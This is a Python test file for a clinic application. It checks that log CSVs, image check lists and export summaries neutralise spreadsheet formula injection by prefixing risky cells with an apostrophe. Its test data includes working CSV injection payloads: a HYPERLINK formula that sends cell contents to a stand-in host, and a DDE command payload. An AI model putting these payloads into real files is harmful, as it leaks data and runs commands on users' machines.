"""No cell of a file ibdesk writes for a spreadsheet can start a formula (OWASP CSV injection):
the log CSV (page, patient extract, CLI), the image folder check list and the export summary."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner
from flask.testing import FlaskClient
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from factories import make_image_set, make_media, make_patient
from ibdesk import audit, clinic_settings, csvsafe
from ibdesk.audit import Actor
from ibdesk.blueprints.export import summary_as_text
from ibdesk.cli import main
from ibdesk.export import ExportSummary
from ibdesk.export.plan import FailedItem
from ibdesk.jobs import JobState, JobStatus
from ibdesk.progress import LogLine, run_to_end
from ibdesk.statistics import imagecheck

HOSTILE = ('=HYPERLINK("http://evil.example/?"&A1,"Klicka")', "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1)", "\t=1+1", "\r=1+1")  # fmt: skip


def _dangerous(text: str) -> bool:
    return text.startswith(csvsafe.FORMULA_START)


def test_cells_are_neutralised_as_owasp_describes() -> None:
    for value in HOSTILE:
        assert csvsafe.cell(value) == "'" + value
    assert csvsafe.cell("  =1") == "'  =1"
    assert csvsafe.cell("Öberg") == "Öberg" and csvsafe.cell(-5) == -5 and csvsafe.cell("") == ""
    assert csvsafe.tsv_line("a", "=b\tc", "d\ne") == "a\t'=b c\td e"


@pytest.mark.parametrize(
    "value", ["\uff1dHYPERLINK(1)", "\uff0b1", "\uff0d1", "\uff20SUM(A1)", "\u00a0=1", "\u3000=1"]
)
def test_full_width_operators_and_other_white_space_are_neutralised_too(value: str) -> None:
    assert csvsafe.cell(value) == "'" + value
    assert csvsafe.text_cell(value).startswith("'")


def _hostile_events(session: Session) -> str:
    patient = make_patient(session)
    for n, value in enumerate(HOSTILE):
        audit.record(session, Actor(user=value, machine=value), value[:30], patient=patient,
                     entity="patient", changes={value: [value, str(n)]})  # fmt: skip
    session.commit()
    return patient.personnummer


def _cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) > len(HOSTILE)
    return [value for row in rows for value in row]


def test_the_log_csv_of_the_page_and_of_a_patient_extract_is_neutralised(
    client: FlaskClient, session: Session
) -> None:
    number = _hostile_events(session)
    for query in ({}, {"personnummer": number}):
        body = b"".join(client.get("/logs/export.csv", query_string=query).response)
        cells = _cells(body.decode("utf-8"))
        assert not [c for c in cells if _dangerous(c)]
        assert "'" + HOSTILE[0] in cells and "'@SUM(1)" in cells


def test_the_log_csv_of_the_cli_is_neutralised(
    db_url: str, session: Session, cli_admin: str
) -> None:
    _hostile_events(session)
    session.close()
    result = CliRunner().invoke(main, ["--db", db_url, "logs", "show", "--csv"])
    assert result.exit_code == 0, result.output
    cells = _cells(result.stdout)
    assert not [c for c in cells if _dangerous(c)] and "'-2+3" in cells


@pytest.mark.backends("sqlite")
def test_the_image_folder_check_list_is_neutralised(
    engine: Engine, session: Session, db_url: str, tmp_path: Path
) -> None:
    images = tmp_path / "bilder"
    images.mkdir()
    clinic_settings.put(session, clinic_settings.IMAGE_FOLDER, str(images))
    image_set = make_image_set(session)
    for name in ("=HYPERLINK(1).png", "+1.png", "@a.png", "-x.png"):
        make_media(session, image_set, path=name)
    (images / "=cmd.png").write_bytes(b"on disk, in no row")
    session.close()
    report, _log = run_to_end(imagecheck.check(engine))
    cells = [cell for line in report.lines() for cell in line.split("\t")]
    assert len(cells) == 10 and not [c for c in cells if _dangerous(c)]
    assert "'=cmd.png" in cells and "'=HYPERLINK(1).png" in cells
    saved = tmp_path / "check.txt"
    result = CliRunner().invoke(main, ["--db", db_url, "images", "check", "--save", str(saved)])
    assert result.exit_code == 1
    lines = saved.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 5 and not [c for ln in lines for c in ln.split("\t") if _dangerous(c)]


def test_the_export_summary_has_no_cell_that_starts_a_formula() -> None:
    summary = ExportSummary(folder="=evil\tfolder")
    summary.failures = 2
    summary.failed = [
        FailedItem("", 7, "=x.png", "the original =x.png\t=1+1 is missing"),
        FailedItem("191212121212", None, "", "@SUM(1)"),
    ]
    job = JobStatus("j", "export", JobState.SUCCEEDED, 1, 1, "", (LogLine("\t=2+2\r+3"),), 1, 0, 0,
                    1.0, None, summary, None)  # fmt: skip
    text = summary_as_text(summary, job)
    cells = [cell.strip(" ") for line in text.splitlines() for cell in line.split("\t")]
    assert "\t" not in text and "\r" not in text
    assert not [c for c in cells if _dangerous(c)]
